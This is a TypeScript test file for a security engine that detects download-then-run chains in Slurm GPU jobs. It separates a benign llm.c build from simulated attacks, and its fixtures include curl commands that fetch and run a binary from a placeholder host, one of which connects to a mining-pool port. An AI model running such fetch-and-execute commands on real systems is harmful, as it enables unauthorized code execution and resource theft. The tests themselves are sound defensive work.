import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AncestorV1, EventV1, ProcessV1 } from '@vigil/schema';
import { builtinEngine, connTo, exec, gpu } from '../testing.js';

function alertsOf(events: EventV1[]) {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts;
}

const JOB: AncestorV1[] = [
  { pid: 3100, comm: 'bash', exe: '/usr/bin/bash', argv: ['/bin/bash', 'slurm_script'] },
  { pid: 3000, comm: 'slurmstepd', exe: '/usr/sbin/slurmstepd', argv: ['slurmstepd: [42.0]'] },
];
const SHELL: AncestorV1 = JOB[0]!;

test('chain.shell-download-run: an llm.c-style build in the job (download data, nvcc -o, run it) ends no chain', () => {
  const at = { cwd: '/tmp/llm.c', ancestry: JOB };
  const make: AncestorV1 = { pid: 5100, comm: 'make', exe: '/usr/bin/make', argv: ['make', 'train_gpt2cu'] };
  const trainer: Partial<ProcessV1> = {
    pid: 5200,
    exe: '/tmp/llm.c/train_gpt2cu',
    comm: 'train_gpt2cu',
    argv: ['./train_gpt2cu'],
    exeRecentlyWritten: true,
    exeInWritableDir: true,
    ...at,
  };
  const alerts = alertsOf([
    exec(['curl', '-sSLo', 'dev/data/tiny_shakespeare_val.bin', 'https://huggingface.co/x'], { pid: 5000, ...at }),
    exec(['make', 'train_gpt2cu'], { pid: 5100, ...at }),
    exec(['/usr/local/cuda/bin/nvcc', '-O3', 'train_gpt2.cu', '-o', 'train_gpt2cu'], {
      pid: 5101,
      cwd: '/tmp/llm.c',
      ancestry: [make, ...JOB],
    }),
    exec(['./train_gpt2cu'], trainer, '/tmp/llm.c/train_gpt2cu'),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', trainer),
  ]);
  assert.deepEqual(
    alerts.map((a) => `${a.ruleId}:${a.severity}`),
    ['gpu.unexpected-process:low'],
  );
});

test('chain.shell-download-run: a downloaded, dropped binary opening a pool-port session (conn event) is the chain', () => {
  const dropped: Partial<ProcessV1> = {
    pid: 5300,
    exe: '/home/u/.x/kw',
    comm: 'kw',
    argv: ['/home/u/.x/kw'],
    exeRecentlyWritten: true,
    exeInWritableDir: true,
    ancestry: JOB,
  };
  const download = exec(['curl', '-so', '/home/u/.x/kw', 'http://203.0.113.9/kw'], { pid: 5250, ancestry: JOB });
  const alerts = alertsOf([
    download,
    exec(['/home/u/.x/kw'], dropped, '/home/u/.x/kw'),
    connTo('established', '198.51.100.7:3333', dropped),
  ]);
  const chain = alerts.find((a) => a.ruleId === 'chain.shell-download-run');
  assert.ok(chain, alerts.map((a) => a.ruleId).join(','));
  assert.equal(chain.severity, 'critical');
  assert.match(
    chain.reason,
    new RegExp(
      `bash \\(pid ${SHELL.pid}\\) downloaded with \`curl -so /home/u/\\.x/kw .*\`, then ran /home/u/\\.x/kw \\(pid 5300\\), which connected to 198\\.51\\.100\\.7:3333`,
    ),
  );
  assert.ok(chain.evidence.includes(download.id));
});

test('chain.shell-download-run: a build that named the file, then a download over it, is a download', () => {
  const dropped: Partial<ProcessV1> = {
    pid: 5400,
    exe: '/tmp/w/m',
    comm: 'm',
    argv: ['/tmp/w/m'],
    exeRecentlyWritten: true,
    exeInWritableDir: true,
    cwd: '/tmp/w',
    ancestry: JOB,
  };
  const alerts = alertsOf([
    exec(['/usr/bin/gcc', '--version', '-o', 'm'], { pid: 5350, cwd: '/tmp/w', ancestry: JOB }),
    exec(['curl', '-so', 'm', 'http://203.0.113.9/m'], { pid: 5360, cwd: '/tmp/w', ancestry: JOB }),
    exec(['/tmp/w/m'], dropped, '/tmp/w/m'),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', dropped),
  ]);
  assert.deepEqual(alerts.map((a) => `${a.ruleId}:${a.severity}`).sort(), [
    'chain.shell-download-run:critical',
    'gpu.unexpected-process:critical',
  ]);
});
